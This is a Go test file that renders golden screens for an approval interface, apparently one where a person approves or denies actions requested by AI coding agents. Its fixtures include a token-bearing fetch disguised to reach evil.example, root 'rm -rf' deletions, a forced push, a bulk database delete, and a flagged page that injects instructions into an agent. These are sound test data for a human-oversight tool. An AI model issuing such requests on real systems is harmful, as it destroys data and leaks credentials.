package tui

import (
	"encoding/json"
	"testing"

	"github.com/blitz-approve/blitz-approve/gate"
)

// requests are one of every kind that a person is asked about.
var requests = map[string]func() gate.Prompt{
	"command": func() gate.Prompt { return command("go test ./internal/pager/... -run TestPages -count=1") },
	"script": func() gate.Prompt {
		p := pushCommand()
		p.Request.Targets = []string{"set -e\ngo build ./...\ngit push origin main --force-with-lease"}
		p.Request.Dir = "/w/internal"
		return p
	},
	"folder": func() gate.Prompt {
		p := command("")
		p.Request.Tool, p.Request.Kind, p.Request.Targets = "delete", gate.DeleteFile, []string{"build/"}
		p.Request.Fields = []gate.Field{{Label: "holds", Value: "214 files in 12 folders, 38 MB; 3 of them are not in git"}}
		p.Verdict.Reason = "deleting a folder is asked each time"
		p.Verdict.Forced, p.Verdict.Offers = true, []gate.Decision{gate.Once}
		return p
	},
	"network": func() gate.Prompt {
		p := command("")
		p.Request.Tool, p.Request.Kind, p.Request.Targets = "fetch", gate.Network, []string{"https://api.github.com@evil.example/repos?token=1"}
		p.Request.Title = "Look at the latest release"
		return p
	},
	"mcp": func() gate.Prompt {
		p := command("")
		p.Request.Kind, p.Request.Server, p.Request.Tool, p.Request.Targets = gate.MCPTool, "postgres", "query", nil
		p.Request.Detail = "{\n  \"sql\": \"delete from orders where created_at < '2020-01-01'\",\n  \"confirm\": true\n}"
		p.Request.Declared = gate.Declaration{Tier: gate.Exec, Reason: "writes to the database"}
		return p
	},
	"safety": func() gate.Prompt {
		p := command("")
		p.Request.Tool, p.Request.Kind, p.Request.Targets = "computer", gate.NoKind, []string{"click 640,380 on “Delete account”"}
		p.Request.SafetyChecks = []gate.SafetyCheck{
			{Code: "irrelevant_domain", Message: "The page is not one that the task is about.", Data: json.RawMessage(`{"host":"bank.example"}`)},
			{Code: "malicious_instructions", Message: "The page tells the agent what to do."}}
		p.Verdict.Offers = []gate.Decision{gate.Once}
		return p
	},
	"code": func() gate.Prompt {
		p := command("")
		p.Request.Tool, p.Request.Kind, p.Request.Targets = "computer", gate.NoKind, []string{"run code"}
		p.Request.Detail = "page = browser.new_page()\npage.goto(\"https://shop.example/admin\")\nfor row in page.rows():\n    row.delete()\n"
		return p
	},
	"forced": func() gate.Prompt {
		p := command("sudo rm -rf /var/lib/shop")
		p.Verdict = gate.Verdict{Effect: gate.Ask, Forced: true, Offers: []gate.Decision{gate.Once}, Reason: "critical: this deletes outside the workspace, as root"}
		return p
	},
	"unrevealed": func() gate.Prompt {
		p := command("")
		p.Request.Tool, p.Request.Kind, p.Request.Targets, p.Request.Unrevealed = "apply_patch", gate.WriteFile, []string{"src/pager.go"}, true
		p.Verdict.Offers = []gate.Decision{gate.Once}
		return p
	},
	"edit": pagerEdit,
	"files": func() gate.Prompt {
		p := pagerEdit()
		p.Request.Targets = append(p.Request.Targets, "internal/pager/pager_test.go", "logo.png")
		p.Request.Diff = append(p.Request.Diff, gate.Change{Path: "internal/pager/pager_test.go", After: []byte("package pager\n\nimport \"testing\"\n")},
			gate.Change{Path: "logo.png", Before: []byte("\x89PNG\x00a"), After: []byte("\x89PNG\x00bcd")})
		p.Request.Editable, p.Revise = true, func(gate.Edit) (gate.Prompt, error) { return p, nil }
		return p
	},
}

// The screens of requests (APR-30, APR-31, TAM-07, TAM-18, TAM-22, P19). Look
// at the files when they change.
func TestGoldenRequests(t *testing.T) {
	screens := map[string]func(m *Model){}
	for name, prompt := range requests {
		screens[name] = func(m *Model) { waitingFor(m, prompt()) }
	}
	on := func(name string, f func(m *Model)) func(m *Model) {
		return func(m *Model) { waitingFor(m, requests[name]()); f(m) }
	}
	screens["split"] = on("edit", func(m *Model) { m.queue.current().split = splitOn })
	screens["cut"] = on("edit", func(m *Model) { m.toggleWrap(); m.queue.current().left = leftStep })
	screens["full"] = on("edit", func(m *Model) { m.toggleFull() })
	screens["why"] = on("script", func(m *Model) { m.showWhy() })
	screens["save"] = on("command", func(m *Model) { m.over = saveSheet })
	screens["rules"] = func(m *Model) {
		waitingFor(m, wide())
		m.opts.Past = pastOf
		m.over, m.saving = saveSheet, saving{width: 2}
		m.queue.current().past = map[string]PastMatches{}
		for _, w := range wide().Widths {
			m.queue.current().past[w.Rule] = pastOf(w.Rule)
		}
	}
	screens["reason"] = on("command", func(m *Model) { m.over = reasonLine; m.reason.insert("run the whole suite instead") })
	screens["grants"] = func(m *Model) { m.mode = gate.AlwaysAskCached; waitingFor(m, readFile(30)) }
	screens["while"] = on("command", func(m *Model) {
		m.queue.current().approval.Prompt.Verdict.Offers = []gate.Decision{gate.Once, gate.Session}
	})
	screens["list"] = on("script", func(m *Model) { m.opts.AnswerKeys, m.keys = AnswerList, newKeymap(Options{AnswerKeys: AnswerList}) })
	screens["long"] = func(m *Model) { waitingFor(m, edit(300)) }
	screens["queue"] = func(m *Model) {
		waitingFor(m, from("opencode", "3f2", "make"), from("codex", "a17", "npm test"), from("gemini", "9c0", "rm -rf dist"))
		m.queue.look(1)
	}
	goldens(t, "requests/", begun(screens))
}
